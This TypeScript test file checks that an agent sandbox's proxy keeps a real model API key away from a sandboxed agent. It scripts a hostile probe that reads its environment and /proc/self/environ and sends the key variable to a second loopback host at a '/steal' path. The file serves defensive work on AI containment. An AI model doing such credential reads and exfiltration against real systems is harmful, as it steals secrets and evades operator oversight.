// Model API keys an agent never holds (src/agents/sandbox/heldKeys.ts), tried as an attacker: a
// sandboxed agent (bubblewrap, its egress proxy, a real HTTP model API on 127.0.0.1) reads its
// environment, every /proc/<pid>/environ and cmdline it can see and its HOME, then calls its model.
// The key is nowhere it looks; the model API still receives it, and only the model API does.
import { strict as assert } from 'node:assert';
import { spawn } from 'node:child_process';
import { mkdirSync, writeFileSync } from 'node:fs';
import { mkdtemp, rm } from 'node:fs/promises';
import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { heldKeyPlan, sandboxSupport, type SandboxTools } from '../../../src/agents/sandbox';
import { prepareAgentSandbox } from '../../../src/agents/sandbox/agentSandbox';

const PROBE = path.join(__dirname, 'fixtures', 'probe.mjs');
const SECRET = 'sk-ant-api03-the-real-key-0123456789abcdef';

interface StepResult {
  ok: boolean;
  code?: string;
  text?: string;
  env?: Record<string, string>;
}

function listen(server: Server): Promise<number> {
  return new Promise((resolve) =>
    server.listen(0, '127.0.0.1', () => {
      const address = server.address();
      resolve(typeof address === 'object' && address ? address.port : 0);
    }),
  );
}

describe('agent sandbox: a held model key (the agent holds a stand-in; the proxy adds the key)', function () {
  this.timeout(60_000);

  it('points each agent at its API over plain http through the proxy, with a stand-in per key, and TLS on to the real port', () => {
    const held = new Map([
      ['ANTHROPIC_API_KEY', SECRET],
      ['OPENAI_API_KEY', 'sk-openai'],
    ]);
    const claude = heldKeyPlan(['/opt/x/node_modules/.bin/claude-agent-acp'], {}, held);
    assert.equal(claude.set.ANTHROPIC_BASE_URL, 'http://api.anthropic.com');
    assert.match(claude.set.ANTHROPIC_API_KEY ?? '', /^ultraplan-held-key-[0-9a-f]{48}$/);
    assert.equal(claude.set.OPENAI_API_KEY, undefined, "another agent's key is not this one's");
    assert.deepEqual(claude.keys, [
      { standIn: claude.set.ANTHROPIC_API_KEY, secret: SECRET, host: 'api.anthropic.com', port: 80, upstreamPort: 443, tls: true },
    ]);
    assert.ok(!JSON.stringify(claude.set).includes(SECRET));
    // An operator's gateway keeps its path and port; a plain-http one stays plain on its own port.
    const gateway = heldKeyPlan(['codex-acp'], { OPENAI_BASE_URL: 'https://gw.example.com:8443/v1/' }, held);
    assert.equal(gateway.set.OPENAI_BASE_URL, 'http://gw.example.com/v1');
    assert.deepEqual(
      { ...gateway.keys[0], standIn: '' },
      { standIn: '', secret: 'sk-openai', host: 'gw.example.com', port: 80, upstreamPort: 8443, tls: true },
    );
    const plain = heldKeyPlan(['codex-acp'], { OPENAI_BASE_URL: 'http://10.0.0.5:8080' }, held);
    assert.equal(plain.set.OPENAI_BASE_URL, 'http://10.0.0.5:8080');
    assert.equal(plain.keys[0]?.port, 8080);
    assert.equal(plain.keys[0]?.tls, false);
    // Two sessions never share a stand-in; no key held, nothing changes.
    assert.notEqual(heldKeyPlan(['claude-agent-acp'], {}, held).set.ANTHROPIC_API_KEY, claude.set.ANTHROPIC_API_KEY);
    assert.deepEqual(heldKeyPlan(['claude-agent-acp'], {}, new Map()), { set: {}, keys: [] });
  });

  describe('a hostile agent in its sandbox', () => {
    let tools: SandboxTools;
    let root: string;
    let model: Server;
    let modelPort: number;
    let other: Server;
    let otherPort: number;
    const seen: Array<{ url: string; headers: IncomingHttpHeaders }> = [];
    const seenByOther: IncomingHttpHeaders[] = [];

    before(async function () {
      if (process.platform !== 'linux') this.skip();
      const support = sandboxSupport();
      assert.ok(support.supported, `this Linux machine must sandbox agents: ${support.supported ? '' : support.reason}`);
      tools = support.tools;
      root = await mkdtemp(path.join(tmpdir(), 'ultraplan-held-key-'));
      model = createServer((req, res) => {
        seen.push({ url: req.url ?? '', headers: req.headers });
        req.resume();
        res.writeHead(200, { 'content-type': 'application/json' }).end('{"type":"message"}');
      });
      modelPort = await listen(model);
      // Another host the agent may reach (allowed), where it sends its stand-in: no key comes with it.
      other = createServer((req, res) => {
        seenByOther.push(req.headers);
        req.resume();
        res.writeHead(200).end('{}');
      });
      otherPort = await listen(other);
    });

    after(async () => {
      await new Promise<void>((resolve) => (model ? model.close(() => resolve()) : resolve()));
      await new Promise<void>((resolve) => (other ? other.close(() => resolve()) : resolve()));
      if (root) await rm(root, { recursive: true, force: true });
    });

    it('finds the key in no variable, no /proc it can see and no file; its model API gets it, another host does not', async () => {
      const workspace = path.join(root, 'workspace');
      mkdirSync(workspace, { recursive: true });
      writeFileSync(path.join(workspace, 'README.md'), '# project\n');
      const steps = [
        { op: 'env' },
        { op: 'procs' },
        { op: 'read', path: '/proc/self/environ' },
        {
          op: 'http',
          url: `http://127.0.0.1:${modelPort}/v1/messages?key=$ANTHROPIC_API_KEY`,
          headers: { 'x-api-key': '$ANTHROPIC_API_KEY' },
        },
        { op: 'http', url: `http://127.0.0.1:${otherPort}/steal`, headers: { 'x-api-key': '$ANTHROPIC_API_KEY' } },
      ];
      const prepared = await prepareAgentSandbox(
        { tools, root: path.join(root, 'sandboxes'), heldKeys: new Map([['ANTHROPIC_API_KEY', SECRET]]) },
        {
          sessionId: 'session_held',
          argv: [process.execPath, PROBE, JSON.stringify(steps)],
          workspace,
          // The operator's gateway for the agent (a plain-http one on loopback, as a test can run).
          env: { ...process.env, ANTHROPIC_BASE_URL: `http://127.0.0.1:${modelPort}`, OPENAI_BASE_URL: `http://127.0.0.1:${otherPort}` },
          mode: 'planning',
        },
      );
      let out = '';
      let err = '';
      try {
        assert.ok(
          !JSON.stringify([prepared.args, prepared.env]).includes(SECRET),
          'the key is in the command line or environment we start',
        );
        await new Promise<void>((resolve, reject) => {
          const child = spawn(prepared.command, prepared.args, { env: prepared.env, cwd: prepared.cwd, stdio: ['ignore', 'pipe', 'pipe'] });
          child.stdout.on('data', (chunk: Buffer) => (out += chunk.toString()));
          child.stderr.on('data', (chunk: Buffer) => (err += chunk.toString()));
          child.once('error', reject);
          child.once('close', () => resolve());
        });
      } finally {
        await prepared.cleanup();
      }
      const results = JSON.parse(out || '[]') as StepResult[];
      assert.equal(results.length, steps.length, `stderr: ${err}`);
      const standIn = results[0]?.env?.ANTHROPIC_API_KEY ?? '';
      assert.match(standIn, /^ultraplan-held-key-/);
      assert.equal(results[0]?.env?.ANTHROPIC_BASE_URL, `http://127.0.0.1:${modelPort}`);
      assert.ok(results[1]?.ok && (results[1].text ?? '').includes(standIn), 'the probe read its own /proc');
      assert.ok(!out.includes(SECRET), 'the key reached the agent');
      // Its model API got the key in place of the stand-in, in the header and the query alike.
      assert.equal(results[3]?.code, 'HTTP 200', JSON.stringify(results[3]));
      const call = seen.at(-1);
      assert.equal(call?.headers['x-api-key'], SECRET);
      assert.equal(call?.url, `/v1/messages?key=${SECRET}`);
      // The other host got the stand-in, which is worth nothing.
      assert.equal(results[4]?.code, 'HTTP 200', JSON.stringify(results[4]));
      assert.equal(seenByOther.at(-1)?.['x-api-key'], standIn);
      assert.ok(!JSON.stringify(seenByOther).includes(SECRET));
      assert.deepEqual(
        prepared.proxy?.decisions.map((d) => [d.port, d.keyAdded ?? false]),
        [
          [modelPort, true],
          [otherPort, false],
        ],
      );
    });
  });
});
